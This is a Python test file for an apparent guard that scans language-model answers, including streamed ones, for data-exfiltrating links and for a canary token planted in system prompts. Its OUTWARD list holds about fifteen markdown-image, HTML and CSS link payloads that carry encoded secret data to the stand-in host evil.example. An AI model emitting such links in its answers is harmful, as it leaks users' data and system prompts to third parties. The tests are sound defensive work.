"""Links and tokens in answers: found in whole texts and in streams, however those are cut."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from routeiq_guard_injection import canary, links
from routeiq_guard_injection.inspector import REMOVED, Answered
from routeiq_sdk import Stop
from routeiq_sdk.guards import Window
from routeiq_sdk.guards.findings import replaced

DATA = "c2VjcmV0IHRoaW5ncyB0aGF0IHNob3VsZCBub3QgbGVhdmUgdGhlIGhvdXNl"
LONG = DATA * 3
TOKEN = "0123456789abcdef01234567"
OUTWARD = [
    f"![x](https://evil.example/p?d={DATA})",
    f"![x](https://evil.example/p#{DATA})",
    f"![a ] b]( <https://evil.example/p?d={DATA}>)",
    f"![x](//evil.example/{DATA}{DATA})",
    f"![x](https://{DATA}.evil.example/p)",
    f"![x](https://evil.example/(a)?d={DATA})",
    f"![x](HTTPS:\\\\evil.example/p?d={DATA})",
    f'<img width=1 src = "https://evil.example/p?d={DATA}">',
    f"<img srcset=https://evil.example/p?d={DATA}>",
    f"<div style='background:url(https://evil.example/p?d={DATA})'>",
    f"[click](https://evil.example/p?d={LONG})",
    f"[click][1]\n\n[1]: https://evil.example/p?d={LONG}",
    f'<a href="https://evil.example/?{LONG}">',
    f"[x](https://trusted.example/[y](https://evil.example/?q={LONG})",
    f"![x](https://trusted.example@evil.example/?q={DATA})",
]
INWARD = [
    "![logo](https://cdn.example/logo.png?v=3)",
    "[docs](https://docs.example/en/latest/how-to/guard-prompts-and-answers.html?highlight=guard#options)",
    f"![x](https://trusted.example/p?d={DATA})",
    f"![x](https://img.trusted.example/p?d={DATA})",
    f"a bare address https://evil.example/?d={LONG} is no link of Markdown",
    f"`{DATA}` ![x](local.png) [y](#part) src = x",
    "![not an image] and text",
    "a ] b ( c ! [ d src href= url( ",
]


def found(text: str) -> list[str]:
    return [text[start:end] for start, end in links.outward(text, ["trusted.example"])]


@pytest.mark.parametrize("text", OUTWARD)
def test_an_address_that_carries_data_to_a_foreign_host_is_found(text: str) -> None:
    assert len(found(text)) == 1


@pytest.mark.parametrize("text", INWARD)
def test_ordinary_links_and_trusted_hosts_are_left_alone(text: str) -> None:
    assert found(text) == []


def test_a_host_is_trusted_as_a_whole() -> None:
    assert found(f"![x](https://nottrusted.example/p?d={DATA})")
    assert found(f"![x](https://trusted.example.evil.example/p?d={DATA})")


PIECES = st.lists(
    st.sampled_from(
        [
            *OUTWARD, *INWARD, TOKEN, TOKEN.upper(), TOKEN[:9], "0", "01", "![", "](", "]", "!", " ", "\n", "src",
            "src =", "h", "href", "url(", "https:", "//", "é", ")", "word ", f"e.example/?{DATA}", f"](https://e.example/?{LONG}",
        ]
    ),
    max_size=6,
)  # fmt: skip


def streamed(answered: Answered, pieces: list[str]) -> str | Stop:
    def judge(text: str) -> str | Stop:
        findings = answered.inspect(text, "assistant")
        if any(finding.replacement is None for finding in findings):
            return Stop("no")
        return replaced(text, findings)

    window = Window(judge, answered.settled)
    out = ""
    for answer in (*(window.feed(piece) for piece in pieces), window.end()):
        if isinstance(answer, Stop):
            return answer
        out += "".join(answer)
    return out


@settings(max_examples=400, deadline=None)
@given(words=PIECES, cuts=st.lists(st.integers(0, 4000), max_size=12), link=st.sampled_from(["mask", "block", None]))
def test_a_stream_is_judged_like_the_whole_however_it_is_cut(
    words: list[str], cuts: list[int], link: str | None
) -> None:
    text = "".join(words)
    answered = Answered(TOKEN, link, ["trusted.example"])
    places = sorted({cut % (len(text) + 1) for cut in cuts})
    pieces = [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]
    whole = streamed(answered, [text])
    assert streamed(answered, pieces) == whole
    assert streamed(answered, list(text)) == whole
    assert isinstance(whole, Stop) == (TOKEN in text.lower() or (link == "block" and bool(found(text))))


@settings(max_examples=200, deadline=None)
@given(words=PIECES)
def test_no_beginning_of_a_token_is_let_out_before_its_end_is_known(words: list[str]) -> None:
    answered = Answered(TOKEN, None, ())
    text = "".join(words) + TOKEN[:-1]
    assert answered.settled(text) <= len(text) - len(TOKEN) + 1


def test_a_removed_address_leaves_the_rest_of_the_text() -> None:
    text = f"See ![x](https://evil.example/p?d={DATA}) now."
    assert streamed(Answered(None, "mask", ()), list(text)) == f"See ![x](https://{REMOVED}) now."


def test_the_token_goes_into_the_first_and_last_line_of_a_system_prompt_on_every_wire() -> None:
    chat = {"messages": [{"role": "system", "name": "n", "content": "Be kind."}, {"role": "user", "content": "Hi."}]}
    planted = canary.planted(chat, TOKEN)
    assert planted is not None
    assert planted["messages"][0] == {"role": "system", "name": "n", "content": f"[{TOKEN}]\nBe kind.\n[{TOKEN}]"}
    blocks = {"system": [{"type": "text", "text": "a"}, {"type": "text", "text": "b"}], "messages": []}
    planted = canary.planted(blocks, TOKEN)
    assert planted is not None
    assert [block["text"] for block in planted["system"]] == [f"[{TOKEN}]\na", f"b\n[{TOKEN}]"]
    assert canary.planted({"instructions": "Be kind.", "input": "Hi."}, TOKEN) is not None
    assert canary.planted({"messages": [{"role": "user", "content": "Hi."}]}, TOKEN) is None
    assert canary.new_token() != canary.new_token()
